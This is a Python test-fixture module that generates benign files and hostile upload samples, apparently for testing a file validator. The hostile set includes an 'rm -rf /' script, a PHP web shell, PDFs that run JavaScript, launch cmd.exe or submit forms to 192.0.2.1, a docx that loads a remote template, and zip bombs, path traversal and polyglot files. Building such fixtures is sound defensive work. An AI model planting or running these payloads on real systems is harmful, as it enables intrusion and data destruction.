"""Files for tests, made in code: honest ones, and those that mean harm. Nothing here was ever anybody's document."""

import io
import struct
import zipfile
import zlib

from PIL import Image
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils import writer as pyhanko_writer
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">%s</Types>'
)
DOCUMENT = b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'


def picture(kind: str = "JPEG", size: tuple[int, int] = (64, 48), **details) -> bytes:
    drawn = io.BytesIO()
    Image.new("RGB", size, (20, 90, 120)).save(drawn, kind, **details)
    return drawn.getvalue()


def picture_with_place() -> bytes:
    """A JPEG that tells where it was taken, and is turned by a quarter (EXIF orientation 6)."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif.get_ifd(0x8825)[2] = (18.0, 8.0, 41.0)
    return picture(size=(640, 480), exif=exif.tobytes())


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims to be huge: decoding it would fill the memory."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
        + chunk(b"IEND", b"")
    )


def archive(parts: dict[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return packed.getvalue()


def docx(extra: dict[str, bytes] | None = None, *, types: bytes = b"") -> bytes:
    return archive({"[Content_Types].xml": CONTENT_TYPES % types, "word/document.xml": DOCUMENT, **(extra or {})})


def xlsx() -> bytes:
    workbook = b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    settings = {"xl/printerSettings/printerSettings1.bin": b"x"}  # as nearly every workbook has
    return archive({"[Content_Types].xml": CONTENT_TYPES % b"", "xl/workbook.xml": workbook, **settings})


def relations(kind: str, target: str, mode: str = "External") -> bytes:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return f'<Relationships><Relationship Id="r1" Type="{base}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'.encode()


def pdf(pages: int = 1, change=None, **encryption) -> bytes:
    writer = PdfWriter()
    for _page in range(pages):
        writer.add_blank_page(200, 200)
    if change:
        change(writer)
    if encryption:
        writer.encrypt(**encryption)
    written = io.BytesIO()
    writer.write(written)
    return written.getvalue()


def _action(kind: str, **entries: str) -> DictionaryObject:
    made = DictionaryObject({NameObject("/S"): NameObject(kind)})
    made.update({NameObject(f"/{name}"): TextStringObject(value) for name, value in entries.items()})
    return made


def opens_with(kind: str, **entries: str):
    def change(writer: PdfWriter) -> None:
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(_action(kind, **entries))

    return change


def script_on_page(writer: PdfWriter) -> None:
    """A script deep inside: an annotation of the page has an additional action."""
    annotation = DictionaryObject(
        {
            NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/AA"): DictionaryObject({NameObject("/E"): _action("/JavaScript", JS="app.alert(1)")}),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def dynamic_form(writer: PdfWriter) -> None:
    stream = DecodedStreamObject()
    stream.set_data(b"<xdp/>")
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/XFA"): writer._add_object(stream)})


def attached(writer: PdfWriter) -> None:
    writer.add_attachment("run.exe", b"MZ")


def named_script(writer: PdfWriter) -> None:
    tree = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("x"), _action("/JavaScript", JS="app.alert(1)")])}
    )
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})


def packed_script() -> bytes:
    """A PDF whose objects lie packed in a compressed stream, where no search for words finds the script."""
    writer = pyhanko_writer.PdfFileWriter(stream_xrefs=True)
    stream = writer.prepare_object_stream()
    action = generic.DictionaryObject(
        {
            generic.NameObject("/S"): generic.NameObject("/JavaScript"),
            generic.NameObject("/JS"): generic.TextStringObject("app.alert(1)"),
        }
    )
    page = pyhanko_writer.PageObject(
        contents=writer.add_object(generic.StreamObject(stream_data=b"")),
        media_box=generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 9, 9)]),
    )
    writer.insert_page(page)
    writer.root[generic.NameObject("/OpenAction")] = writer.add_object(action, obj_stream=stream)
    written = io.BytesIO()
    writer.write(written)
    assert b"JavaScript" not in written.getvalue()
    return written.getvalue()


def escaped_names(raw: bytes) -> bytes:
    """The same, with the name written in hexadecimal: /J#61vaScript."""
    return raw.replace(b"/JavaScript", b"/J#61vaScri#70t")


HONEST: dict[str, bytes] = {
    "แผนที่ ศูนย์.pdf": pdf(3),
    "scan.pdf": b"\xef\xbb\xbf" + pdf(),
    "ป้าย.jpg": picture(),
    "ป้าย.JPEG": picture(),
    "จอ.png": picture("PNG"),
    "จอ.webp": picture("WEBP"),
    "บันทึก.txt": "ที่ ปั้น น้ำ ผู้\r\nญี่ ฐุ".encode(),
    "เก่า.txt": "ศูนย์ราชการสะดวก ที่ว่าการอำเภอ".encode("cp874"),
    "utf16.txt": "ศูนย์ราชการ".encode("utf-16"),
    "BMA.txt": b"BM is how this note begins",
    "ผล.csv": "ข้อ,คะแนน\r\n1,5\r\n".encode("utf-8-sig"),
    "ผล.xlsx": xlsx(),
    "รายงาน.docx": docx(),
    "print.docx": docx({"word/printerSettings1.bin": b"x"}),
    "link.docx": docx({"word/_rels/document.xml.rels": relations("hyperlink", "https://example.go.th")}),
}

HOSTILE: dict[str, bytes] = {
    "empty.pdf": b"",
    "program.exe": b"MZ\x90\x00" + b"\x00" * 100,
    "program.pdf": b"MZ\x90\x00" + b"\x00" * 100,
    "elf.txt": b"\x7fELF\x02\x01\x01" + b"\x00" * 50,
    "script.txt": b"#!/bin/sh\nrm -rf /\n",
    "php.txt": b"<?php system($_GET['c']); ?>",
    "page.txt": b"\n <!DOCTYPE html><script>alert(1)</script>",
    "page.html": b"<html><body>hello</body></html>",
    "utf16page.txt": "<html><script>alert(1)</script>".encode("utf-16"),
    "drawing.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "drawing.png": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "data.xml": b'<?xml version="1.0"?><a/>',
    "archive.zip": archive({"a.txt": b"a"}),
    "archive.docx": archive({"a.txt": b"a"}),
    "archive.rar": b"Rar!\x1a\x07\x00" + b"\x00" * 30,
    "archive.7z": b"7z\xbc\xaf\x27\x1c" + b"\x00" * 30,
    "archive.gz": b"\x1f\x8b\x08" + b"\x00" * 30,
    "archive.tar": b"a.txt".ljust(257, b"\x00") + b"ustar\x00" + b"\x00" * 200,
    "old.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
    "password.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
    "rich.txt": b"{\\rtf1\\ansi hello}",
    "phone.heic": b"\x00\x00\x00\x18ftypheic" + b"\x00" * 40,
    "phone.jpg": b"\x00\x00\x00\x18ftypheic" + b"\x00" * 40,
    "film.mp4": b"\x00\x00\x00\x18ftypisom" + b"\x00" * 40,
    "anim.gif": picture("GIF"),
    "huge.png": png_claiming(10_000, 10_000),
    "colossal.png": png_claiming(2**31 - 1, 2**31 - 1),
    "broken.png": picture("PNG")[:-30] + b"\x00" * 12,
    "broken.jpg": b"\xff\xd8\xff\xe0" + b"\x00" * 20,
    "notreally.pdf": picture(),
    "notreally.jpg": pdf(),
    "notreally.docx": xlsx(),
    "noending": picture(),
    "control.txt": b"abc\x00\x01\x02def",
    "nottext.txt": b"\x81\x82\xfc\xfe\xff" * 10,
    "polyglot.jpg": picture() + archive({"Evil.class": b"x"}),
    "polyglot.pdf": pdf() + archive({"a.exe": b"MZ"}),
    "macro.docx": docx({"word/vbaProject.bin": b"x"}),
    "macro2.docx": docx(types=b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
    "object.docx": docx({"word/embeddings/oleObject1.bin": b"x"}),
    "nested.docx": docx({"word/embeddings/run.exe": b"MZ"}),
    "template.docx": docx({"word/_rels/settings.xml.rels": relations("attachedTemplate", "http://192.0.2.1/a.dotm")}),
    "frame.docx": docx({"word/_rels/webSettings.xml.rels": relations("frame", "\\\\192.0.2.1\\share")}),
    "entity.docx": docx({"word/_rels/document.xml.rels": b'<!DOCTYPE a [<!ENTITY b "c">]><Relationships/>'}),
    "bomb.docx": docx({"word/media/zeros.xml": b"\x00" * (60 * 1024 * 1024)}),
    "climb.docx": docx({"../../evil.xml": b"x"}),
    "cut.xlsx": xlsx()[:200],
    "locked.pdf": pdf(user_password="secret", algorithm="RC4-128"),
    "owner.pdf": pdf(user_password="", owner_password="secret", algorithm="RC4-128"),
    "cut.pdf": pdf()[:60],
    "header.pdf": b"%PDF-1.7\nnothing else",
    "script.pdf": pdf(change=named_script),
    "hidden.pdf": pdf(change=script_on_page),
    "escaped.pdf": escaped_names(pdf(change=opens_with("/JavaScript", JS="app.alert(1)"))),
    "packed.pdf": packed_script(),
    "launch.pdf": pdf(change=opens_with("/Launch", F="cmd.exe")),
    "sends.pdf": pdf(change=opens_with("/SubmitForm", F="http://192.0.2.1/")),
    "dynamic.pdf": pdf(change=dynamic_form),
    "attached.pdf": pdf(change=attached),
}
